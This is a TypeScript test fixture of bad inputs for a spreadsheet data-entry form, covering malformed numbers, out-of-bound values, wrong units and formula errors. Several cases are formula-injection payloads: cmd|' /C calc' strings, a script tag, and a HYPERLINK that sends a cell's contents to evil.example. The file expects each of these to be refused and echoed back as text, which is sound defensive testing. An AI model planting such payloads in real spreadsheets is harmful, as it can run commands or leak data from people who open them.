/**
 * Bad values an official types into a zone form's Value cell, each with the outcome expected on the Feedback tab
 * (`{cell}` is the cell the runner picks) and in the store. `unit` picks an indicator of that unit; `code` pins
 * one (for its bounds). Every refused cell must keep the last accepted value in the store and the results.
 */
import type { Acceptance, Refusal } from './cases';

export type FormCellCase = {
  name: string;
  /** The unit of the indicator the value is typed into (as the methodology spells it). */
  unit: string;
  /** A particular indicator, for its bounds. */
  code?: string;
  /** What the official types (USER_ENTERED, as the Sheets UI parses it). */
  input: string;
  expect: Refusal | Acceptance;
  /** The Feedback's "Value as typed" cell must hold exactly this text as a string (never a formula). */
  echoedAsText?: string;
};

const refused = (...messageIncludes: string[]): Refusal => ({ refused: true, messageIncludes, at: '{cell}' });
const accepted = (value: number | null, ...noteIncludes: string[]): Acceptance => ({
  refused: false,
  value,
  ...(noteIncludes.length > 0 && { noteIncludes }),
});

const NAN = 'is not a number';
const FORMULA = 'is a formula error';

export const FORM_CELL_CASES: readonly FormCellCase[] = [
  // Malformed numbers.
  { name: 'letters after digits', unit: 'count', input: '12abc', expect: refused('“12abc”', NAN) },
  { name: 'a word for a number', unit: 'count', input: 'twelve', expect: refused('“twelve”', NAN) },
  { name: 'two decimal points', unit: 'count', input: '12..5', expect: refused(NAN) },
  { name: 'a lone point', unit: 'count', input: '.', expect: refused(NAN) },
  { name: 'a double minus', unit: 'count', input: '--5', expect: refused(NAN) },
  { name: 'a trailing minus', unit: 'count', input: '5-', expect: refused(NAN) },
  { name: 'digits split by spaces', unit: 'count', input: '12 12', expect: refused(NAN) },
  { name: 'a hexadecimal number', unit: 'count', input: '0x1F', expect: refused(NAN) },
  { name: 'Infinity typed', unit: 'count', input: 'Infinity', expect: refused(NAN) },
  { name: 'NaN typed', unit: 'count', input: 'NaN', expect: refused(NAN) },
  { name: 'full-width digits with letters', unit: 'count', input: '１２abc', expect: refused(NAN) },
  { name: 'a question mark', unit: 'count', input: '?', expect: refused(NAN) },
  { name: 'TBD', unit: 'count', input: 'TBD', expect: refused(NAN) },
  { name: 'a range of numbers', unit: 'count', input: '10-20', expect: refused(NAN) },
  { name: 'an approximate value', unit: 'count', input: '~12', expect: refused(NAN) },
  { name: 'a value with a plus-minus', unit: 'count', input: '12±2', expect: refused(NAN) },
  {
    name: 'accounting negative in brackets',
    unit: 'count',
    input: '(5)',
    expect: refused('“(5)”', 'is negative'),
  },
  { name: 'an emoji', unit: 'count', input: '👍', expect: refused(NAN) },
  { name: 'HTML in a value cell', unit: 'count', input: '<b>5</b>', expect: refused(NAN) },
  {
    name: 'a script tag in a value cell',
    unit: 'count',
    input: '<script>alert(1)</script>',
    expect: refused(NAN),
    echoedAsText: '<script>alert(1)</script>',
  },
  {
    name: 'text beginning with + (formula injection)',
    unit: 'count',
    input: "'+cmd|' /C calc'!A0",
    expect: refused(NAN),
    echoedAsText: "+cmd|' /C calc'!A0",
  },
  {
    name: 'text beginning with @ (formula injection)',
    unit: 'count',
    input: "'@SUM(1+1)*cmd|' /C calc'!A0",
    expect: refused(NAN),
    echoedAsText: "@SUM(1+1)*cmd|' /C calc'!A0",
  },
  {
    name: 'text beginning with = (formula injection)',
    unit: 'count',
    input: `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
    expect: refused(NAN),
    echoedAsText: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
  },
  {
    name: 'text beginning with - (formula injection)',
    unit: 'count',
    input: "'-2+3+cmd|' /C calc'!A0",
    expect: refused(NAN),
    echoedAsText: "-2+3+cmd|' /C calc'!A0",
  },
  {
    name: 'a cell of 50,000 characters (Google’s limit)',
    unit: 'count',
    input: '9'.repeat(49_999) + 'x',
    expect: refused(NAN),
  },
  // Separators.
  { name: 'a decimal comma', unit: '%', input: '17,35', expect: refused('decimal mark is a point') },
  {
    name: 'European grouping (1.092,47)',
    unit: '100 million yuan',
    input: '1.092,47',
    expect: refused('decimal mark is a point'),
  },
  { name: 'misplaced thousands commas', unit: 'count', input: '1,2,3', expect: refused(NAN) },
  // Whole numbers.
  { name: 'a fraction of a count', unit: 'count', input: '2.5', expect: refused('not a whole number') },
  { name: 'a fraction of people', unit: 'people', input: '3.5', expect: refused('not a whole number') },
  // Bounds.
  { name: 'a negative count', unit: 'count', input: '-3', expect: refused('is negative') },
  { name: 'a negative amount', unit: '100 million yuan', input: '-5', expect: refused('is negative') },
  { name: 'a negative amount with 亿', unit: '100 million yuan', input: '-5亿', expect: refused('negative') },
  {
    name: 'a share above 100%',
    unit: '%',
    code: 'T01',
    input: '150',
    expect: refused('above the maximum of 100%'),
  },
  {
    name: 'a share typed 1735%',
    unit: '%',
    code: 'T11',
    input: '1735%',
    expect: refused('above the maximum of 100%'),
  },
  { name: 'a negative share', unit: '%', code: 'T14', input: '-5', expect: refused('negative') },
  {
    name: 'a growth rate below -100%',
    unit: '%',
    code: 'T22',
    input: '-150',
    expect: refused('below the minimum of -100%'),
  },
  {
    name: 'a growth rate of -100.5%',
    unit: '%',
    code: 'T23',
    input: '-100.5%',
    expect: refused('below the minimum of -100%'),
  },
  { name: 'a score above 100', unit: 'score 0-100', input: '101', expect: refused('above the maximum') },
  {
    name: 'clearance days above the maximum',
    unit: 'days',
    code: 'T12',
    input: '200',
    expect: refused('above the maximum of 180'),
  },
  {
    name: 'delivery days above the maximum',
    unit: 'days',
    code: 'T35',
    input: '91',
    expect: refused('above the maximum of 90'),
  },
  {
    name: 'hours above the maximum',
    unit: 'hours',
    input: '1000',
    expect: refused('above the maximum of 720'),
  },
  {
    name: 'incidents above the maximum',
    unit: 'count',
    code: 'T45',
    input: '51',
    expect: refused('above the maximum of 50'),
  },
  // Units and scales.
  {
    name: 'a percentage for a count',
    unit: 'count',
    input: '5%',
    expect: refused('is a percentage', 'count'),
  },
  {
    name: 'a percentage for an amount',
    unit: 'billion yuan',
    input: '12%',
    expect: refused('is a percentage'),
  },
  { name: 'dollars for yuan', unit: '10,000 yuan', input: '$1,092.47', expect: refused('yuan') },
  { name: 'USD for yuan', unit: 'billion yuan', input: '1,092.47 USD', expect: refused('yuan') },
  { name: '美元 for yuan', unit: '10,000 yuan', input: '1092.47美元', expect: refused('yuan') },
  { name: 'an unknown unit word', unit: 'count', input: '12 kg', expect: refused('“12 kg”') },
  { name: 'a scale word on a share', unit: '%', input: '5万', expect: refused('万') },
  {
    name: 'apples for square metres',
    unit: 'square metres',
    input: '5 apples',
    expect: refused('“5 apples”'),
  },
  {
    name: 'a fraction typed for a percentage (wrong scale)',
    unit: '%',
    code: 'T19',
    input: '0.1735',
    expect: accepted(0.1735, 'if you meant 17.35%, type 17.35'),
  },
  {
    name: 'a fraction typed for a growth rate (wrong scale)',
    unit: '%',
    code: 'T24',
    input: '-0.05',
    expect: accepted(-0.05, 'if you meant -5%, type -5'),
  },
  {
    name: 'a percentage with a space before %',
    unit: '%',
    code: 'T20',
    input: '17.35 %',
    expect: accepted(17.35),
  },
  {
    name: '亿 on an amount in 100 million yuan',
    unit: '100 million yuan',
    input: '1,092.47亿',
    expect: accepted(1092.47),
  },
  { name: '亿 on an amount in 10,000 yuan', unit: '10,000 yuan', input: '1.5亿', expect: accepted(15000) },
  // Yes/no.
  { name: 'maybe for yes/no', unit: 'yes/no', input: 'maybe', expect: refused('is not yes or no') },
  { name: '2 for yes/no', unit: 'yes/no', input: '2', expect: refused('not yes or no') },
  { name: '0.5 for yes/no', unit: 'yes/no', input: '0.5', expect: refused('not yes or no') },
  { name: '-1 for yes/no', unit: 'yes/no', input: '-1', expect: refused('not yes or no') },
  { name: 'a date for yes/no', unit: 'yes/no', input: '2026-01-05', expect: refused('turned into a date') },
  // Dates and booleans where numbers are expected.
  { name: 'an ISO date', unit: 'count', input: '2026-01-05', expect: refused('turned into a date') },
  { name: 'a US date', unit: 'count', input: '1/5/2026', expect: refused('turned into a date') },
  { name: 'TRUE for a count', unit: 'count', input: 'TRUE', expect: refused('yes/no value', 'not a number') },
  // Formula errors.
  { name: '#DIV/0!', unit: 'count', input: '=1/0', expect: refused('#DIV/0!', FORMULA, 'divides by zero') },
  { name: '#NAME?', unit: 'count', input: '=SUMM(1,2)', expect: refused('#NAME?', FORMULA) },
  { name: '#ERROR!', unit: 'count', input: '=1+', expect: refused('#ERROR!', FORMULA) },
  { name: '#VALUE!', unit: 'count', input: '="a"+1', expect: refused('#VALUE!', FORMULA) },
  { name: '#NUM!', unit: 'count', input: '=10^400', expect: refused('#NUM!', FORMULA) },
  { name: '#REF! (a deleted sheet)', unit: 'count', input: '=Deleted!A1', expect: refused('#REF!', FORMULA) },
  {
    name: '#N/A (a lookup that found nothing)',
    unit: 'count',
    input: '=NA()',
    expect: refused('#N/A', FORMULA),
  },
  {
    name: '#DIV/0! in a percentage',
    unit: '%',
    input: '=5/(2-2)',
    expect: refused('#DIV/0!', FORMULA),
  },
  {
    name: '#NAME? in an amount',
    unit: 'billion yuan',
    input: '=NOSUCHFUNCTION(2)',
    expect: refused('#NAME?', FORMULA),
  },
  { name: 'a formula giving text', unit: 'count', input: '="five"', expect: refused('“five”', NAN) },
  { name: 'a formula giving a negative', unit: 'count', input: '=2-5', expect: refused('negative') },
  // Values that are missing, not zero (a bad zero would be worse).
  { name: 'N/A typed', unit: 'count', input: 'N/A', expect: accepted(null, 'read as missing') },
  { name: 'a dash typed', unit: '%', input: '-', expect: accepted(null, 'read as missing') },
  { name: 'an em dash typed', unit: '10,000 yuan', input: '—', expect: accepted(null, 'read as missing') },
];
